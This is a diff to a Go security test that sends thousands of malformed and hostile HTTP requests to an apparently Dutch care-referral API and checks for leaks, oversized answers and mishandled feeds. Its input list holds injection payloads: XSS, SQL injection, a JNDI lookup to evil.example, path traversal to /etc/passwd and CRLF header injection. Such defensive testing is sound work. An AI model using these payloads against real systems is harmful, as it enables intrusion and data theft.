@@ -12,9 +12,13 @@ import (
 	"testing"
 
 	"eerstelijn/internal/access"
+	"eerstelijn/internal/api"
 )
 
 const hostileRequests = 10_000
+
+// mostAnswer is far more than any page, list or file of the invented region.
+const mostAnswer = 4 << 20
 
 // TestHostileRequests asks ten thousand things that nobody should: bent paths, methods, headers, bodies,
 // cookies, tokens, and the ids of another region and organisation. The same each time. No answer is a
@@ -43,6 +47,7 @@ func TestHostileRequests(t *testing.T) {
 			t.Errorf("%d was answered %d times: the test does not reach what it should", code, codes[code])
 		}
 	}
+	h.whole(t)
 }
 
 type hostile struct {
@@ -69,6 +74,7 @@ func (x *hostile) text() string {
 	return pick(x, "", "x", "\x00", "a\x00b", "\xff\xfe", "é", "\u202e", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "' OR 1=1 --", "'; DROP TABLE service; --",
 		"%00", "%s%n%d", "${jndi:ldap://evil.example/}", "{{7*7}}", "../../../../etc/passwd", "..\\..\\", "-1", "0", "99999999999999999999", "1e309", "NaN", "true", "null", "[]", "{}",
 		strings.Repeat("A", 5000), strings.Repeat("9", 400), "a\r\nSet-Cookie: x=y", string(x.services[1].ID), string(x.staff[1].ID), string(x.reports[1].ID), x.teams[1].Slug, x.regions[1].Slug,
+		string(x.offers[1].ID), string(x.offers[2].ID), string(x.stands(2, opened).ID), string(x.stands(2, opened).Invitations[0].ID), string(x.offers[2].Organization), "2026-11-03", "elv-laag",
 		x.session, string(x.proposals[0].ID), string(x.invited[1].ID), string(x.client), pick(x, elsewhereAddresses...), "01a2021c-57a7-7958-a0a2-dda95bcee43f")
 }
 
@@ -77,6 +83,9 @@ var fields = []string{
 	"terug", "back", "leeswijze", "taal", "q", "place", "topic", "versie", "version", "rol", "naam", "email", "organisatie", "besluit", "doe", "rechten", "ding", "soort", "nummer", "vorm", "vanaf",
 	"tot", "verder", "handeling", "name", "kind", "words", "answer", "reply", "code", "state", "iss", "error", "logout_token", "id_token_hint", "grant_type", "client_assertion", "scope", "limit",
 	"cursor", "near", "postcode", "radius", "area", "need", "at", "year", "geometry", "areas", "primary", "last_met", "function", "phone", "hours", "discipline", "_method", "__proto__", "wat", "stand", "op", "gezien",
+	"plekken", "neemt-aan", "wachten", "alles", "aanbod", "totaal", "vragen", "gesprek", "geldt", "maand", "regio", "gedaan", "inhoud", "antwoord", "reden", "vrij", "aanbieder", "wie", "dag", "naam", "geboren", "bereik",
+	"begin", "betaald", "formulier", "tekst", "urgency", "direction", "groups", "languages", "insurer", "max_km", "places", "continuity", "wishes", "needs.walking", "note", "consent_with", "why_not", "id", "start_by",
+	"region", "desk", "invited", "since", "service", "organization", "from", "until",
 }
 
 // one asks one thing, and looks at the answer.
@@ -85,8 +94,16 @@ func (x *hostile) one() int {
 	r := v.known(x.request())
 	sent := r.Header.Values("Cookie")
 	method, path := r.Method, r.URL.Path
+	// The feed goes on until somebody leaves; all else ends by itself.
 	a := httptest.NewRecorder()
-	x.handler.ServeHTTP(a, r)
+	if r.URL.Path == api.FeedPath {
+		a = x.overhear(r)
+	} else {
+		x.handler.ServeHTTP(a, r)
+	}
+	if a.Body.Len() > mostAnswer {
+		x.t.Errorf("%s %s answers %d bytes", method, path, a.Body.Len())
+	}
 	told := func(format string, args ...any) {
 		x.t.Errorf("%s %.200q?%.200q as %s: %d: %s", method, path, r.URL.RawQuery, v.name, a.Code, fmt.Sprintf(format, args...))
 	}
@@ -127,7 +144,7 @@ func (x *hostile) one() int {
 	}
 	// The picker of the demonstration shows everybody to everybody.
 	if !strings.HasPrefix(path, "/demo") {
-		for _, secret := range []string{x.staff[1].Name, x.staff[1].Email, "Zomerlogeren De Veerstoep"} {
+		for _, secret := range []string{x.staff[1].Name, x.staff[1].Email, "Zomerlogeren De Veerstoep", wish(2)} {
 			if strings.Contains(a.Body.String(), secret) {
 				told("tells of %q", secret)
 			}
@@ -203,7 +220,15 @@ func (x *hostile) body(of thing) (kind string, body io.Reader) {
 	if x.chance(2) {
 		form.Set(pick(x, "terug", "back", "leeswijze.terug"), pick(x, elsewhereAddresses...))
 	}
-	switch x.r.IntN(16) {
+	switch x.r.IntN(18) {
+	case 16, 17: // what belongs there, but for one text or number
+		if at := strings.Index(of.body, `":`); at > 0 {
+			head, tail := of.body[:at+2], of.body[at+2:]
+			if next := strings.IndexAny(tail, ",}]"); next >= 0 {
+				return "application/json", strings.NewReader(head + pick(x, "-1", "1e400", "9223372036854775808", "null", "{}", "[]", `""`, `"`+strings.Repeat("a", 3000)+`"`, `"\u0000"`, `"0001-01-01T00:00:00Z"`, `"9999-12-31T23:59:59Z"`, "true") + tail[next:])
+			}
+		}
+		fallthrough
 	case 0:
 		return "application/json", strings.NewReader(of.body)
 	case 1:
